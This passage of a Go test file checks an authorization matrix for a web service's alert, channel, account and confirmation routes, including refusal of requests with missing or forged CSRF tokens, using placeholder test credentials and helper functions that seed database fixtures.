		{"GET", "/api/v1/alerts/{id}", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, w.alert(t)},
		{"POST", "/api/v1/alerts/{id}/acknowledge", "application/json", `{"note":"authz"}`, false, [10]int{unauth, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, w.alert(t)},
		{"POST", "/api/v1/alerts/{id}/resolve", "application/json", `{"note":"authz"}`, false, [10]int{unauth, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, w.alert(t)},
		// The alert pages: viewers read them; members acknowledge and
		// resolve through the forms, which then return to the page.
		{"GET", "/alerts", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/alerts/{id}", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, w.alert(t)},
		{"POST", "/alerts/{id}/acknowledge", form, "note=authz", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, w.alert(t)},
		{"POST", "/alerts/{id}/resolve", form, "note=authz", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, w.alert(t)},
		{"GET", "/api/v1/teams/alpha/channels", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"PUT", "/api/v1/teams/alpha/channels/authz-hook", "application/json", authzChannel, false, [10]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"DELETE", "/api/v1/teams/alpha/channels/authz-gone", "", "", false, [10]int{unauth, denied, denied, denied, none, hidden, none, unauth, unauth, denied}, w.channel(t)},
		{"PUT", "/api/v1/account/email", "application/json", `{"email":"authz@example.test"}`, false, [10]int{unauth, none, none, none, none, none, denied, unauth, unauth, denied}, nil},
		// The same through the team page's and the account page's forms
		// (the team page refuses another team's admin, as for GitHub).
		{"POST", "/account/teams/alpha/channels", form, "name=authz-page&kind=email&target=authz%40example.test", false, [10]int{see, denied, denied, denied, see, denied, see, unauth, unauth, denied}, nil},
		{"POST", "/account/teams/alpha/channels/authz-gone/delete", form, "", false, [10]int{see, denied, denied, denied, see, denied, see, unauth, unauth, denied}, w.channel(t)},
		{"POST", "/account/email", form, "email=authz%40example.test", false, [10]int{see, see, see, see, see, see, denied, unauth, unauth, denied}, nil},
		// Confirmations: members start and cancel them; the matrix's test
		// names no commit, so starting one is refused as bad input.
		{"POST", "/api/v1/tests/{id}/confirm", "application/json", `{"kpis":["K"]}`, false, [10]int{unauth, denied, 400, 400, 400, hidden, 400, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/tests/{id}/bisect", "application/json", `{"kpi":"K"}`, false, [10]int{unauth, denied, 400, 400, 400, hidden, 400, unauth, unauth, denied}, nil},
		{"GET", "/tests/{id}/series", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/tests/{id}/confirm", form, "kpi=K", false, [10]int{see, denied, 400, 400, 400, hidden, 400, unauth, unauth, denied}, nil},
		{"POST", "/tests/{id}/bisect", form, "kpi=K", false, [10]int{see, denied, 400, 400, 400, hidden, 400, unauth, unauth, denied}, nil},
		{"GET", "/confirmations/{id}", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, w.confirmation(t)},
		{"POST", "/confirmations/{id}/cancel", form, "", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, w.confirmation(t)},
		{"GET", "/api/v1/tests/{id}/confirmations", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/confirmations/{id}", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, w.confirmation(t)},
		{"POST", "/api/v1/confirmations/{id}/cancel", "", "", false, [10]int{unauth, denied, accepted, accepted, accepted, hidden, accepted, unauth, unauth, denied}, w.confirmation(t)},
		{"POST", "/api/v1/github/webhook", "application/json", `{}`, false, [10]int{unauth, unauth, unauth, unauth, unauth, unauth, unauth, unauth, unauth, unauth}, nil},
	}
	session := browserSession(t, "authz-owner", "authz test password")
	owner := slices.Index(principals, "owner")
	cells := 0
	for _, r := range rows {
		// cell runs the row with one credential and checks the answer.
		cell := func(who string, c credential, want int) {
			t.Helper()
			target := fmt.Sprint(id)
			if r.fresh && want < 300 {
				target = fmt.Sprint(w.run(t, "owner"))
			}
			if r.prep != nil {
				target = r.prep()
			}
			path := strings.ReplaceAll(r.path, "{id}", target)
			body := strings.ReplaceAll(r.body, "{id}", target)
			if strings.Contains(body, "%s") {
				body = fmt.Sprintf(body, who)
			}
			code, got := send(t, c, r.method, path, r.ctype, body)
			require.Equal(t, want, code, "%s %s as %s: %s", r.method, path, who, got)
			cells++
		}
		for i, who := range principals {
			cell(who, credential{token: w.tokens[who]}, r.want[i])
		}
		// The owner signed in with a browser: reads as with the owner's
		// token; a change without the session's CSRF token is refused, with
		// it is as the owner's token. (Public routes take no session, and
		// signing out is TestLoginSessionAndCSRF's.)
		u, _ := url.Parse(r.path)
		if authnPublic(u.Path) || u.Path == "/logout" {
			continue
		}
		if r.method == http.MethodGet {
			cell("session", session, r.want[owner])
			continue
		}
		noCSRF := session
		noCSRF.csrf = ""
		cell("session-no-csrf", noCSRF, http.StatusForbidden)
		forged := session
		forged.csrf = "forged"
		cell("session-forged-csrf", forged, http.StatusForbidden)
		cell("session-csrf", session, r.want[owner])
	}
	t.Logf("authorisation matrix: %d endpoints and pages x %d principals, and a signed-in browser with and without CSRF tokens: %d cells asserted",
		len(rows), len(principals), cells)

	// No hostile import changed the framework its owner runs.
	var fwNow wire.FrameworkInfo
	code, body := as(t, w.tokens["owner"], "GET", "/api/v1/frameworks/authz-fw?team=alpha", "", "")
	require.Equal(t, http.StatusOK, code, body)
	require.NoError(t, json.Unmarshal([]byte(body), &fwNow))
	require.Equal(t, "#!/bin/sh\necho 'K, 1' > results.csv\n", fwNow.Execution.Script)
	require.Equal(t, "authz-owner", fwNow.Owner)

	// Lists show only one's own teams' things.
	_, body = as(t, w.tokens["other-admin"], "GET", "/api/v1/tests?framework=authz-fw", "", "")
	require.Contains(t, body, `"items": []`)
	_, body = as(t, w.tokens["other-admin"], "GET", "/api/v1/frameworks", "", "")
	require.NotContains(t, body, "authz-fw")
	_, body = as(t, w.tokens["other-admin"], "GET", "/frameworks", "", "")
	require.NotContains(t, body, "authz-fw")
}

// githubConnection connects team alpha to GitHub again before each cell of
// a row that disconnects it.
func (w *authzWorld) githubConnection(t *testing.T) func() string {
	return func() string {
		st.Call(t, "PUT", "/api/v1/teams/alpha/github", "application/json", []byte(`{"token":"ghp_authz","webhook_secret":"authz webhook secret 0123456789"}`), nil)
		return ""
	}
}

// authzChannel is a team's webhook channel as an admin sets it.
const authzChannel = `{"kind":"webhook","target":"http://127.0.0.1:9/hook","secret":"authz channel secret 0123456789","events":["opened"]}`

// alert opens a new alert of team alpha's framework before each cell of a
// row that reads or changes one, and returns its ID.
func (w *authzWorld) alert(t *testing.T) func() string {
	return func() string {
		var id int64
		err := st.Pool.QueryRow(context.Background(), `
			INSERT INTO alerts (framework_id, kind, kpi, severity, first_test, last_test, summary)
			SELECT f.id, 'regression', 'K-' || gen_random_uuid()::text, 'major', $1, $1, 'authz'
			FROM frameworks f WHERE f.team = 'alpha' AND f.name = 'authz-fw' RETURNING id`, w.test).Scan(&id)
		require.NoError(t, err)
		return fmt.Sprint(id)
	}
}

// confirmation records a running confirmation of the matrix's test (no
// workflow runs it), ending the one before, and returns its ID.
func (w *authzWorld) confirmation(t *testing.T) func() string {
	return func() string {
		ctx := context.Background()
		_, err := st.Pool.Exec(ctx, `UPDATE confirmations SET state = 'cancelled', ended_at = now() WHERE test_id = $1 AND state = 'running'`, w.test)
		require.NoError(t, err)
		id, err := store.New(st.Pool).ConfirmationCreate(ctx, store.NewConfirmation{TestID: w.test, BaseCommit: "a", CandCommit: "b",
			KPIs: []wire.ConfirmKPI{{Name: "K", LowerIsBetter: true, Threshold: 0.02}}, Budget: 2, Order: "abba", StartedBy: "owner"}, time.Now())
		require.NoError(t, err)
		return fmt.Sprint(id)
	}
}

// channel makes team alpha's channel authz-gone again before each cell of
// a row that removes it.
func (w *authzWorld) channel(t *testing.T) func() string {
	return func() string {
		st.Call(t, "PUT", "/api/v1/teams/alpha/channels/authz-gone", "application/json", []byte(authzChannel), nil)
		return ""
	}
}

// ownerSchedule makes a schedule of authz-fw as its owner (a yearly cron
// that never fires during the test) and returns its ID: for each cell of
// a row that deletes one, and once for the rows that share one.
func (w *authzWorld) ownerSchedule(t *testing.T) func() string {
	return func() string {
		code, body := as(t, w.tokens["owner"], http.MethodPost, "/api/v1/frameworks/authz-fw/schedules?team=alpha", "application/json", `{"cron":"0 3 1 1 *"}`)
		require.Equal(t, http.StatusCreated, code, body)
		var sc wire.Schedule
		require.NoError(t, json.Unmarshal([]byte(body), &sc))
		return fmt.Sprint(sc.ID)
	}
}
